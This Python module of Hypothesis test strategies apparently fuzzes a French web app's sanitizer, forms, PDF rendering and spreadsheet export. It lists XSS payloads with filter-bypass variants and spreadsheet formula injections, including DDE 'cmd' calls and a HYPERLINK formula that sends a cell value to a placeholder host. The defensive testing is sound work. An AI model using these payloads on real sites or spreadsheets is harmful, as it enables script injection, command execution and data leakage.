"""Hostile inputs as hypothesis strategies: scripts and event handlers, script URLs,
spreadsheet formulas, odd Unicode, null bytes, very long text, amounts out of range."""

from hypothesis import strategies as st

from cej.html import strip_unprintable

# Marks what sits inside an element the sanitizer must drop with its content (script,
# style): it must never reach a page or a PDF.
DROPPED = "XSSMARK"

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<p onclick="alert(1)">clic</p>',
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="JaVaScRiPt:alert(1)">lien</a>',
    '<a href="java&#x09;script:alert(1)">lien</a>',
    '<a href=" &#14; javascript:alert(1)">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="javascript:alert(1)"><button>ok</button></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "{{ 7|add:7 }} {% now 'Y' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "=",
    "+",
    "-",
    "@",
]
ODD_UNICODE = [
    "\u202eevil\u202c",  # right-to-left override
    "\u2066isolé\u2069",
    "\u200f\u200e\u200b\u200d",
    "e\u0301\u0301\u0301\u0301",  # stacked combining marks
    "Z\u0351\u0364\u0352\u0313a\u0356\u0307l\u036eg\u0317o\u0319",
    "😀👨\u200d👩\u200d👧\U0001f1eb\U0001f1f7",  # astral emoji, a ZWJ family, a flag
    "\U0010fffd\U000e0041",
    "\ufeffbom",
    "\uffff\ufffe",
    "ﷺ﷽",
    "\u2028\u2029",
    "\x01\x07\x0b\x1b\x7f",
    "\u00a0\u202f\u2009",
    "İıßẞ",
    "١٢٣٤",
]
NUL = ["\x00", "a\x00b", "\x00<script>alert(1)</script>"]


def _join(parts):
    return "".join(parts)


# Text that a browser or a spreadsheet might run, mixed with ordinary and odd text.
piece = st.one_of(
    st.sampled_from(SCRIPTS),
    st.sampled_from(FORMULAS),
    st.sampled_from(ODD_UNICODE),
    st.text(st.characters(codec="utf-8"), max_size=12),
    st.sampled_from(["Fiche", "Relais petite enfance", "Loire", "l'été"]),
)
hostile_text = st.lists(piece, min_size=1, max_size=4).map(_join)
# What a form must accept (and show as inert text): the same, without the invisible control
# characters every form refuses, within a title's length.
acceptable_text = hostile_text.map(lambda t: strip_unprintable(t).strip()[:200]).filter(bool)
# Strings the form must refuse: null bytes, longer than any text column.
nul_text = st.tuples(hostile_text, st.sampled_from(NUL), hostile_text).map(_join)
long_text = st.integers(min_value=251, max_value=20_000).map(lambda n: ("<b>x</b>" * n)[:n])

# Rich text: the hostile pieces plus elements whose content the sanitizer must drop.
rich_piece = st.one_of(
    piece,
    st.sampled_from(
        [
            f"<script>alert('{DROPPED}')</script>",
            f"<style>body{{color:red}} /*{DROPPED}*/</style>",
            f'<script src="http://exemple.invalid/{DROPPED}.js"></script>',
            f"<p>Un paragraphe</p><script>/* {DROPPED} */</script>",
            '<ul><li>un</li><li onclick="alert(1)">deux</li></ul>',
            '<a href="https://exemple.invalid/" onmouseover="alert(1)">lien</a>',
            "<strong>gras</strong> <em>italique</em>",
        ]
    ),
)
# Nested deeper than any fiche: the PDF renderer recursed past Python's limit on it.
deep_nesting = st.tuples(
    st.integers(min_value=13, max_value=400),
    st.sampled_from(
        [("<ul><li>", "</li></ul>"), ("<b>", "</b>"), ("<ol><li><em>", "</em></li></ol>")]
    ),
).map(lambda d: d[1][0] * d[0] + "profond" + d[1][1] * d[0])
rich_text = st.lists(st.one_of(rich_piece, deep_nesting), min_size=1, max_size=5).map(_join)

# Amounts: the formats people type, and what overflows, is negative, or is no number.
amount_text = st.one_of(
    st.sampled_from(
        [
            "1e20",
            "1E+400",
            "1 000 000 000 000,00",
            "9999999999,99",
            "10000000000",
            "NaN",
            "nan",
            "Infinity",
            "-Infinity",
            "-0",
            "-0,00",
            "(0)",
            "-1",
            "(12,50)",
            "\u2212100",
            "0,001",
            "0,005",
            "12,345",
            "1.234,56",
            "1,234.56",
            "1_000",
            "١٢٣",
            "１２３",
            "45 000,50 €",
            "€",
            "",
            " ",
            "1" * 40,
            "9" * 5000,
            "0x10",
            "1e-400",
            "=1+1",
        ]
    ),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.floats().map(repr),
    st.integers(min_value=-(2**80), max_value=2**80).map(str),
    st.text(st.sampled_from("0123456789,. -+e€\u00a0\u202f"), max_size=20),
)
# What a spreadsheet cell may hold: numbers of every kind, text, nothing.
huge_ints = st.integers(min_value=-(2**70), max_value=2**70)
